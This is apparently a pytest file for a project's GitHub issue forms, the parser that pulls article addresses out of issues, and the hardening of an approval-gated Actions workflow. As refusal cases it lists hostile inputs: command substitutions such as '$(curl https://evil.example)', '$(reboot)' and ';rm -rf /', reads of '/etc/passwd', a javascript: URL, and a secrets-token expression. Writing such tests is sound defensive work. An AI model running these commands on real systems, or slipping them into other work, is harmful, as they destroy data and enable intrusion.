"""The forms that readers fill in, what the site and the workflow expect of them, and what the workflow may do."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from dateline.cli import importing as command
from dateline.importing import issue
from dateline.importing.clipping import Refused

ROOT = Path(__file__).resolve().parent.parent
FORMS = ROOT / ".github/ISSUE_TEMPLATE"
KINDS = {"checkboxes", "dropdown", "input", "markdown", "textarea"}


def form(name: str) -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.safe_load((FORMS / name).read_text("utf-8"))
    return loaded


def event(body: object) -> str:
    return json.dumps({"action": "labeled", "issue": {"number": 7, "body": body}})


def filled(addresses: str, why: str = "It tells of the bridge.") -> str:
    """The body of an issue as GitHub writes it from the form."""
    answers = {"addresses": addresses, "why": why or "_No response_"}
    parts = (f"### {part['attributes']['label']}\n\n{answers[part['id']]}" for part in form("add.yml")["body"])
    return event("\n\n".join(parts))


# -- the forms ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["add.yml", "correct.yml"])
def test_a_form_has_what_github_asks_for(name: str) -> None:
    # Source: docs.github.com, "Syntax for issue forms"
    found = form(name)
    assert found["name"] and found["description"] and found["body"]
    ids = [part["id"] for part in found["body"]]
    labels = [part["attributes"]["label"] for part in found["body"]]
    assert len(ids) == len(set(ids)) and len(labels) == len(set(labels))
    assert all(
        re.fullmatch(r"[\w-]+", id) and part["type"] in KINDS for id, part in zip(ids, found["body"], strict=True)
    )


def test_what_the_site_fills_in_are_fields_of_the_form() -> None:
    script = (ROOT / "docs/assets/share.js").read_text("utf-8")
    filled_in = set(re.findall(r'searchParams\.set\(\s*"(\w+)"', script))
    known = {part["id"] for part in form("correct.yml")["body"]}
    assert filled_in - {"title"} == {"page", "event", "dates", "quote"} <= known
    assert "issues/new?template=correct.yml" in (ROOT / "docs/overrides/partials/footer.html").read_text("utf-8")


def test_no_form_gives_itself_the_label_that_approves() -> None:
    approving = re.search(r"label\.name == '(\w+)'", _source())
    assert approving and approving[1] not in {
        label for name in ("add.yml", "correct.yml") for label in form(name)["labels"]
    }
    assert f"'{form('add.yml')['labels'][0]}'" in _source()


# -- out of an issue ----------------------------------------------------------------------------------------------


def test_the_addresses_of_a_filled_form() -> None:
    found = issue.addresses(
        filled("https://a.example/x?y=1#z\r\n\r\n- http://b.example/\n<https://c.example/ü>\nhttps://a.example/x?y=1#z")
    )
    assert found == ("https://a.example/x?y=1#z", "http://b.example/", "https://c.example/ü")


@pytest.mark.parametrize(
    "line",
    [
        "/etc/passwd",
        "file:///etc/passwd",
        "../seeds/entities.yml",
        "--seeds=/",
        "--archive",
        "$(curl https://evil.example)",
        "https://a.example/`id`",
        "https://a.example/;rm -rf /",
        'https://a.example/"; exit 1; "',
        "javascript:alert(1)",
        "https://user:secret@a.example/",
        "https://",
        "https://[",
        "see https://a.example/ and more",
        "<!-- https://hidden.example/ -->",
        "[x](https://a.example/)",
        "https://a.example/" + "x" * issue.LONGEST,
        "${{ secrets.GITHUB_TOKEN }}",
        "_No response_",
    ],
)
def test_anything_but_an_address_stops_it(line: str) -> None:
    with pytest.raises(Refused, match="is no address"):
        issue.addresses(filled(f"https://a.example/\n{line}"))


def test_words_elsewhere_in_the_issue_are_not_looked_at() -> None:
    assert issue.addresses(filled("https://a.example/", f"### {issue.FIELD}\n\nhttps://evil.example/")) == (
        "https://a.example/",
    )


@pytest.mark.parametrize(
    "given",
    ["", "{", "[]", "null", "{}", '{"issue": null}', '{"issue": {"body": null}}', '{"issue": {"body": 3}}', event("https://a.example/"),
     event("## Addresses of the articles\nhttps://a.example/"), "[" * 5000],
)  # fmt: skip
def test_what_was_not_written_with_the_form_is_refused(given: str) -> None:
    with pytest.raises(Refused):
        issue.addresses(given)


def test_an_empty_field_and_too_many_addresses_are_refused() -> None:
    with pytest.raises(Refused, match="names no address"):
        issue.addresses(filled("\n \n"))
    with pytest.raises(Refused, match="11 addresses; 10 are the most"):
        issue.addresses(filled("\n".join(f"https://a.example/{n}" for n in range(11))))


@given(st.text())
def test_whatever_is_written_only_web_addresses_come_out(text: str) -> None:
    try:
        found = issue.addresses(filled(text))
    except Refused:
        return
    assert all(re.fullmatch(r"(?i)https?://[^\s\"'`<>]+", address) for address in found)


def test_the_command_refuses_what_it_can_t_read_and_asks_nobody(tmp_path: Path) -> None:
    given = tmp_path / "event.json"
    given.write_text(filled("$(reboot)"), encoding="utf-8")
    result = CliRunner().invoke(command.add, ["--seeds", str(tmp_path), "--issue", str(given)])
    assert result.exit_code == 1 and "event.json: “$(reboot)” is no address" in result.output
    assert list(tmp_path.iterdir()) == [given]


def test_a_file_that_is_not_there_is_named(tmp_path: Path) -> None:
    result = CliRunner().invoke(command.add, ["--seeds", str(tmp_path), "--issue", str(tmp_path / "none.json")])
    assert result.exit_code == 1 and "none.json: can't be read" in result.output


def test_a_private_address_out_of_an_issue_is_refused_like_a_typed_one(tmp_path: Path) -> None:
    pytest.importorskip("trafilatura", reason='needs the packages of "dateline[add]"')
    given = tmp_path / "event.json"
    given.write_text(filled("http://127.0.0.1:9/x"), encoding="utf-8")
    result = CliRunner().invoke(command.add, ["--seeds", str(tmp_path), "--issue", str(given)])
    assert result.exit_code == 1 and "private network" in result.output and "1 refused" in result.output


# -- the workflow -------------------------------------------------------------------------------------------------


def _source() -> str:
    return (ROOT / ".github/workflows/add.yml").read_text("utf-8")


@pytest.fixture(scope="module")
def workflow() -> dict[str, Any]:
    loaded: dict[str, Any] = yaml.load(_source(), Loader=yaml.BaseLoader)
    return loaded


def _steps(workflow: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for job in workflow["jobs"].values():
        yield from job["steps"]


def test_nothing_is_put_into_a_command(workflow: dict[str, Any]) -> None:
    commands = [step["run"] for step in _steps(workflow) if "run" in step]
    assert len(commands) == 4 and not [run for run in commands if "${{" in run]
    from_the_issue = re.findall(r"github\.event\.issue[\w.]*", _source())
    assert set(from_the_issue) == {"github.event.issue.number", "github.event.issue.labels."}
    assert '--issue "$GITHUB_EVENT_PATH"' in "".join(commands)


def test_what_fetches_can_t_write_and_what_writes_fetches_nothing(workflow: dict[str, Any]) -> None:
    assert workflow["on"] == {"issues": {"types": ["labeled"]}} and workflow["permissions"] == {}
    fetch, propose = workflow["jobs"]["fetch"], workflow["jobs"]["propose"]
    assert fetch["permissions"] == {"contents": "read"}
    assert propose["permissions"] == {"contents": "write", "pull-requests": "write"}
    assert propose["needs"] == "fetch" and set(workflow["jobs"]) == {"fetch", "propose"}
    assert "dateline" not in json.dumps(propose) and "pip" not in json.dumps(propose)
    (checkout,) = [step for step in fetch["steps"] if step.get("uses", "").startswith("actions/checkout")]
    assert checkout["with"]["persist-credentials"] == "false"


def test_only_the_label_of_a_maintainer_starts_it(workflow: dict[str, Any]) -> None:
    fetch = workflow["jobs"]["fetch"]
    assert fetch["if"].startswith("github.event.label.name == 'approved' && ")
    first = fetch["steps"][0]
    assert "admin|maintain|write)" in first["run"] and "exit 1" in first["run"]
    assert first["env"]["SENDER"] == "${{ github.event.sender.login }}"


def test_its_actions_are_github_s_own(workflow: dict[str, Any]) -> None:
    used = [step["uses"] for step in _steps(workflow) if "uses" in step]
    assert used and all(re.fullmatch(r"actions/[\w-]+@[0-9a-f]{40}", action) for action in used)
